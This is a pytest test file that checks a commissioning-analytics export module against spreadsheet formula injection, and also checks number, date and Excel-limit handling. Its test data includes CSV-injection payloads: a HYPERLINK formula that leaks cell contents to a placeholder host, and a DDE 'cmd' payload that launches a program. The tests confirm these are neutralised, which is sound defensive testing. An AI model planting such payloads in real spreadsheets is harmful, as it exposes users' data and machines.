"""export.py: text is never a formula, numbers stay numbers, Excel's limits are kept."""

from __future__ import annotations

import csv
import datetime as dt
import os

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from commissioning_analytics import export
from commissioning_analytics.export import Column, Sheet, neutralise, write_csv, write_workbook

pytestmark = pytest.mark.integration

HOSTILE = [
    '=HYPERLINK("http://x?y="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def _schemes() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "scheme_id": ["1", "2", "10", "9", "3", "4"],
            "scheme": HOSTILE,
            "theme": ["Planned care"] * 6,
            "go_live": [pd.Period("2026-07", "M")] * 3 + ["2026-10", None, "2027-01"],
            "ytd_variance_gbp": [-28_700.0, 1_250.5, np.nan, 0.0, -1.0, 3.0],
        }
    )


def _all_cells(path):
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield sheet.title, cell


def test_neutralise_prefixes_only_formula_triggers():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("-2+3") == "'-2+3"
    assert neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("\tx") == "'\tx"
    assert neutralise("Discharge to assess") == "Discharge to assess"
    assert neutralise("") == ""


def test_hostile_names_are_inert_text_in_the_workbook(tmp_path):
    path = tmp_path / "pack.xlsx"
    write_workbook(
        [Sheet("schemes", _schemes())], path, title="=evil title", notes=[("+figure", "@basis")]
    )
    cells = list(_all_cells(path))
    assert not [c.coordinate for _, c in cells if c.data_type == "f"]
    sheet = load_workbook(path)["schemes"]
    names = [sheet.cell(r, 2).value for r in range(2, 8)]
    assert names[:5] == ["'" + h for h in HOSTILE[:5]]
    assert names[5] == "'_x000D_=1+1"  # the CR as the xlsx file escapes it (Excel shows a CR)
    assert all(sheet.cell(r, 2).data_type == "s" for r in range(2, 8))


def test_numbers_stay_numbers_and_money_is_formatted_in_pounds(tmp_path):
    path = tmp_path / "pack.xlsx"
    write_workbook([Sheet("schemes", _schemes())], path)
    sheet = load_workbook(path)["schemes"]
    headers = [c.value for c in sheet[1]]
    col = headers.index("Year-to-date variance, actual − plan (£)") + 1
    cell = sheet.cell(2, col)
    assert cell.data_type == "n" and cell.value == -28_700
    assert "£" in cell.number_format
    assert sheet.cell(4, col).value is None  # a missing value is an empty cell, not "nan"


def test_numeric_scheme_ids_are_numbers_and_months_real_dates(tmp_path):
    path = tmp_path / "pack.xlsx"
    write_workbook([Sheet("schemes", _schemes())], path)
    sheet = load_workbook(path)["schemes"]
    assert [sheet.cell(r, 1).value for r in range(2, 8)] == [1, 2, 10, 9, 3, 4]
    assert sorted(sheet.cell(r, 1).value for r in range(2, 8)) == [1, 2, 3, 4, 9, 10]
    go_live = [sheet.cell(r, 4).value for r in range(2, 8)]
    assert go_live == [dt.datetime(2026, 7, 1)] * 3 + [
        dt.datetime(2026, 10, 1),
        None,
        dt.datetime(2027, 1, 1),
    ]
    assert sheet.cell(2, 4).number_format == "mmm yyyy"


def test_mixed_scheme_ids_stay_text(tmp_path):
    path = tmp_path / "pack.xlsx"
    frame = pd.DataFrame({"scheme_id": ["1", "2a", "007"], "scheme": ["a", "b", "c"]})
    write_workbook([Sheet("schemes", frame)], path)
    sheet = load_workbook(path)["schemes"]
    assert [sheet.cell(r, 1).value for r in range(2, 5)] == ["1", "2a", "007"]


def test_headers_filters_frozen_and_notes(tmp_path):
    path = tmp_path / "pack.xlsx"
    write_workbook(
        [Sheet("schemes", _schemes(), about="Every scheme.", basis="The rules.")],
        path,
        title="Pack",
        notes=[("Plan", "Sum of plan in year.")],
    )
    book = load_workbook(path)
    assert book.sheetnames == ["Notes", "schemes"]
    sheet = book["schemes"]
    assert sheet["A1"].value == "Scheme No"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E7"
    notes = [[c.value for c in row] for row in book["Notes"].iter_rows()]
    assert ["Plan", "Sum of plan in year.", None] in notes
    assert ["schemes", "Every scheme.", "The rules."] in notes


def test_a_table_longer_than_a_sheet_goes_to_csv_with_a_note(tmp_path, monkeypatch):
    monkeypatch.setattr(export, "MAX_ROWS", 4)  # Excel's 1,048,576, made small
    path = tmp_path / "pack.xlsx"
    frame = pd.DataFrame({"scheme_id": ["1", "2", "3", "4"], "value_gbp": [1.0, 2.0, 3.0, 4.0]})
    report = write_workbook([Sheet("monthly_profile", frame), Sheet("small", frame.head(2))], path)
    csv_path = report.overflow["monthly_profile"]
    assert csv_path.parent == tmp_path
    assert pd.read_csv(csv_path)["value_gbp"].sum() == 10.0
    book = load_workbook(path)
    assert csv_path.name in book["monthly_profile"]["A1"].value
    assert book["small"].max_row == 3


def test_text_longer_than_a_cell_is_cut_and_said(tmp_path):
    path = tmp_path / "pack.xlsx"
    frame = pd.DataFrame({"scheme": ["x" * 40_000]})
    report = write_workbook([Sheet("long", frame)], path)
    value = load_workbook(path)["long"]["A2"].value
    assert len(value) == export.MAX_CELL_TEXT and value.endswith("…")
    assert report.cut_cells == {"long": 1}


def test_sheet_names_excel_refuses_are_cleaned_and_unique(tmp_path):
    taken: set[str] = set()
    assert export.sheet_name("a/b:c", taken) == "a_b_c"
    assert export.sheet_name("A/B:C", taken) == "A_B_C (2)"
    assert len(export.sheet_name("x" * 40, taken)) == 31


def test_csv_is_inert_and_keeps_negative_numbers(tmp_path):
    path = tmp_path / "schemes.csv"
    write_csv(_schemes(), path)
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    names = [r[1] for r in rows[1:]]
    assert names == ["'" + h for h in HOSTILE]
    assert rows[1][4] == "-28700.0"  # a number, not neutralised
    assert not any(cell[:1] in ("=", "+", "@") for row in rows for cell in row)


def test_csv_gets_the_mode_of_the_umask(tmp_path):
    old = os.umask(0o022)
    try:
        path = write_csv(pd.DataFrame({"a": [1]}), tmp_path / "a.csv")
    finally:
        os.umask(old)
    assert path.stat().st_mode & 0o777 == 0o644


def test_csv_into_a_missing_folder_or_a_folder_is_a_user_error(tmp_path):
    from commissioning_analytics.errors import UserError

    with pytest.raises(UserError, match="does not exist"):
        write_csv(pd.DataFrame({"a": [1]}), tmp_path / "nowhere" / "a.csv")
    with pytest.raises(UserError, match="is a folder"):
        write_csv(pd.DataFrame({"a": [1]}), tmp_path)


def test_wide_profile_one_row_per_scheme_months_as_columns():
    months = [pd.Period("2026-04", "M"), pd.Period("2026-05", "M"), pd.Period("2027-04", "M")]
    long = pd.DataFrame(
        {
            "scheme_id": ["1", "1", "1", "2", "2", "2"] * 2,
            "month": months * 4,
            "measure": ["plan"] * 6 + ["forecast"] * 6,
            "value_gbp": [100.0, 100.0, 100.0, 0.0, 50.0, 50.0, 75.0, 75.0, 75.0, 0.0, 25.0, 25.0],
        }
    )
    wide = export.wide_profile(long, measures=("plan", "forecast"), months=2)
    assert list(wide.columns) == [
        "scheme_id",
        "Plan Apr 2026",
        "Plan May 2026",
        "Forecast Apr 2026",
        "Forecast May 2026",
    ]
    assert wide.loc[wide["scheme_id"] == "2"].iloc[0].tolist()[1:] == [0.0, 50.0, 0.0, 25.0]
    shuffled = long.sample(frac=1, random_state=1)  # any order: same table
    again = export.wide_profile(shuffled, measures=("plan", "forecast"), months=2)
    again = again.set_index("scheme_id").loc[["1", "2"]].reset_index()
    pd.testing.assert_frame_equal(again, wide)


def test_column_spec_reads_units_from_names():
    assert export.column_spec("reinvestment_gbp") == Column("Reinvestment (£)", "money")
    assert export.column_spec("realised_pct").kind == "percent"
    assert export.column_spec("scheme_id").header == "Scheme No"


def test_the_pack_workbook_and_csvs_carry_hostile_names_as_text(tmp_path):
    """Every sheet and CSV of the pack, built from the sample month with hostile scheme and
    theme names (issue 12: 13 live formulas in the pack's workbook before)."""
    from pathlib import Path

    from commissioning_analytics import month as report
    from commissioning_analytics.pack import tables as pack_tables_module
    from commissioning_analytics.views import tables as tables_views

    root = Path(__file__).resolve().parents[2]
    month = report.load_month("2026-10", root / "data" / "raw")
    reg = month.register
    reg.loc[:5, "scheme"] = HOSTILE
    reg.loc[:5, "theme"] = HOSTILE
    tables = tables_views.pack_tables(month)
    path = tmp_path / "pack.xlsx"
    pack_tables_module.write_workbook(tables, path)
    cells = list(_all_cells(path))
    assert not [(s, c.coordinate) for s, c in cells if c.data_type == "f"]
    texts = {c.value for _, c in cells if isinstance(c.value, str)}
    assert '\'=HYPERLINK("http://x?y="&A1,"click")' in texts and "'@SUM(A1)" in texts
    assert not [v for v in texts if v[:1] in ("=", "+", "@") or v.startswith("-2")]
    schemes = load_workbook(path)["schemes"]
    headers = [c.value for c in schemes[1]]
    fye = headers.index("Full-year effect, net saving (£)") + 1
    assert all(schemes.cell(r, fye).data_type == "n" for r in range(2, schemes.max_row + 1))
    pack_tables_module.write_processed(tables, tmp_path)
    for csv_path in tmp_path.glob("*.csv"):
        with open(csv_path, newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                assert not [c for c in row if c[:1] in ("=", "+", "@", "\t", "\r")], csv_path


def test_schemes_command_writes_hostile_names_inert(tmp_path):
    """`schemes --csv` (issue 12): a scheme named =HYPERLINK(...) is text in the CSV."""
    import sys
    from pathlib import Path

    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
    from commissioning_analytics.cli import main
    from fixtures import EXAMPLE, SECOND, THIRD, appendix

    rows = [list(r) for r in (EXAMPLE, SECOND, THIRD)]
    # (openpyxl would store "=..." as a formula in the input itself: the other three here)
    rows[0][3], rows[1][3], rows[2][3] = HOSTILE[1], HOSTILE[2], HOSTILE[3]
    register = appendix(tmp_path / "register.xlsx", rows)
    out = tmp_path / "schemes.csv"
    assert main(["schemes", str(register), "--csv", str(out)]) == 0
    table = pd.read_csv(out, dtype=str)
    assert list(table["scheme"]) == ["'" + h for h in HOSTILE[1:4]]
    assert pd.to_numeric(table["fye_net_saving"]).tolist() == [602_000, 120_000, 60_000]


def test_csv_neutralises_a_trigger_whether_the_column_has_blanks_numbers_or_nuls(tmp_path):
    # The quick look (all text joined, one search) must never pass a column it should fix:
    # a clean column, one with a single "=" far down, one with blanks, one with numbers among
    # the text, one whose text holds a NUL before a "+".
    frame = pd.DataFrame(
        {
            "clean": ["a", "b", "c", "d"],
            "late": ["a", "b", "c", "=1+1"],
            "blanks": [None, "@x", np.nan, "ok"],
            "mixed": [1, "-2", "z", None],
            "nul": ["a\x00+b", "+c", "d", "e"],
        }
    )
    path = write_csv(frame, tmp_path / "t.csv")
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows == [
        ["clean", "late", "blanks", "mixed", "nul"],
        ["a", "a", "", "1", "a\x00+b"],
        ["b", "b", "'@x", "'-2", "'+c"],
        ["c", "c", "", "z", "d"],
        ["d", "'=1+1", "ok", "", "e"],
    ]
